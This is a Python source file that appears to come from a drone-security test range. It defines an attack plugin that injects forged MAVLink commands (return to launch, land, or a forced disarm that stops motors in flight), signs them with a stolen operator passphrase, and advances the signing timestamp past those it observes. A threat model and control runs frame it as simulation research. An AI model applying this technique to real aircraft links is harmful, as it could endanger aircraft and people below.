"""Forged commands on a signed link, signed with the key of a passphrase that the attacker has or guesses."""

from __future__ import annotations

from collections.abc import Sequence
from dataclasses import dataclass
from typing import Annotated, Final, Literal

from pydantic import Field

from skyrange.attack.contract import Attack, AttackContext, AttackPlugin, Controls, ThreatModel
from skyrange.attack.on_path import InjectingTap, Names, Repetition, side_of
from skyrange.attack.telemetry.alteration import telemetry_links
from skyrange.codec.mavlink import Packer
from skyrange.codec.mavlink import dialect as mav
from skyrange.codec.mavlink.frame_layout import MAGIC_V2
from skyrange.codec.mavlink.signing import (
    LAST_TIMESTAMP,
    UNIT_NS,
    is_signed,
    range_passphrase,
    secret_from_passphrase,
    sign_frame,
    signing_timestamp,
)
from skyrange.contracts.frames.frame import Frame
from skyrange.contracts.links import TapPlacement
from skyrange.contracts.params import Number, Params, Whole
from skyrange.contracts.verdicts import Direction
from skyrange.core.ids import operator_of
from skyrange.core.time import Time, from_seconds

ROLES: Final = ("gcs", "log", "autopilot")
STATION: Final = (255, int(mav.MAV_COMP_ID_MISSIONPLANNER))
"""System and component id of ground stations."""
_FORCE: Final = 21196.0
"""Param 2 of MAV_CMD_COMPONENT_ARM_DISARM: disarm in flight too."""
ORDERS: Final[dict[str, tuple[int, tuple[float, ...]]]] = {
    "return": (int(mav.MAV_CMD_NAV_RETURN_TO_LAUNCH), (0.0,) * 7),
    "land": (int(mav.MAV_CMD_NAV_LAND), (0.0,) * 7),
    "disarm": (int(mav.MAV_CMD_COMPONENT_ARM_DISARM), (0.0, _FORCE, *(0.0,) * 5)),
}
"""Orders by name: MAV_CMD and its parameters."""


class SignedOrders(Params):
    """Which order is given, and with which key it is signed."""

    links: Annotated[Names, Field(min_length=1)] = Field(
        description="Links gcs, log or autopilot by name or pattern, such as ['gcs:blue/b1']."
    )
    passphrase: str | None = Field(
        default=None,
        min_length=1,
        description="Passphrase of the attacker's key; default: that of the operator, skyrange/SEED/OPERATOR, so the "
        "key is stolen. Any other one is a wrong key, and its frames are refused.",
    )
    order: Literal["return", "land", "disarm"] = Field(
        default="return",
        description="Order to the aircraft: MAV_CMD_NAV_RETURN_TO_LAUNCH, MAV_CMD_NAV_LAND, or "
        "MAV_CMD_COMPONENT_ARM_DISARM by force, which stops the motors in flight.",
    )
    every_s: Number = Field(default=1.0, ge=0.1, le=3600, description="Time between two orders, in seconds.")
    link_id: Annotated[Whole, Field(ge=0, le=255)] = Field(
        default=7,
        description="Link id in the signatures. With that of the ground station, 0, its next frames may be refused, "
        "because the forged timestamp is later.",
    )


@dataclass(slots=True)
class OrderSource:
    """Signed orders in the name of the ground station. Their timestamp is later than all that passed.

    The sham sends command 0, which asks for nothing, with the same key and as many bytes.
    """

    secret: bytes
    link_id: int
    command: int
    values: tuple[float, ...]
    target: int
    initial: int
    """Timestamp at time 0 by the attacker's clock."""
    repetition: Repetition
    packer: Packer
    latest: int = 0
    """The latest timestamp that passed or was sent."""

    @property
    def due(self) -> Time | None:
        """When the next order is due."""
        return self.repetition.due

    def see(self, now: Time, frame: Frame) -> None:
        """Learn the latest timestamp: it is not encrypted."""
        payload = frame.payload
        if len(payload) > 12 and payload[0] == MAGIC_V2 and is_signed(payload):
            self.latest = max(self.latest, int.from_bytes(payload[-12:-6], "little"))

    def make(self, now: Time) -> Sequence[tuple[Direction, bytes]]:
        """The order that is due."""
        if not self.repetition.take(now):
            return []
        order = mav.MAVLink_command_long_message(self.target, mav.MAV_COMP_ID_AUTOPILOT1, self.command, 0, *self.values)
        self.latest = min(max(self.latest + 1, self.initial + now // UNIT_NS), LAST_TIMESTAMP)
        return [("fwd", sign_frame(self.packer.pack(order), self.secret, self.link_id, self.latest))]


@dataclass(frozen=True, slots=True)
class _MakeTap:
    params: SignedOrders
    context: AttackContext

    def __call__(self, link: str) -> InjectingTap:
        params, context = self.params, self.context
        vehicle = link.partition(":")[2]
        phrase = params.passphrase or range_passphrase(context.chance.seed, operator_of(vehicle))
        command, values = (0, (0.0,) * 7) if context.sham else ORDERS[params.order]
        source = OrderSource(
            secret_from_passphrase(phrase), params.link_id, command, values, context.vehicles[vehicle].system_id,
            signing_timestamp(context.epoch.unix_ns), Repetition(context.schedule, from_seconds(params.every_s)),
            Packer(*STATION),
        )  # fmt: skip
        return InjectingTap(link, source)


def make(params: SignedOrders, context: AttackContext) -> Attack:
    """The attack. Raises `InputError` for links that the scenario does not have, or of another kind."""
    links = telemetry_links(params.links, context, ROLES)
    maker = _MakeTap(params, context)
    return Attack(taps=[TapPlacement(name, side_of(name), maker) for name in links])


STOLEN_KEY = AttackPlugin(
    SignedOrders,
    make,
    "Gives orders signed with the stolen key of the operator.",
    technique="T0859",
    surface=ROLES,
    persists="mode",
    effect="a signed link obeys the attacker, because signatures prove the key and not the sender",
    threat=ThreatModel(
        knowledge="the operator's passphrase, which all its aircraft share; with a guessed one the frames are refused",
        position="on the network between ground station and aircraft; it need not hold up frames",
        equipment="a computer that sends MAVLink, and the key, from a stolen computer or aircraft of the operator",
        budget="a frame of 57 bytes per order",
    ),
    controls=Controls(
        load="the sham: the same frames with command 0, which asks for nothing",
        content="the same orders signed with another passphrase",
        placement="the same orders on the link of another aircraft of the operator",
    ),
)
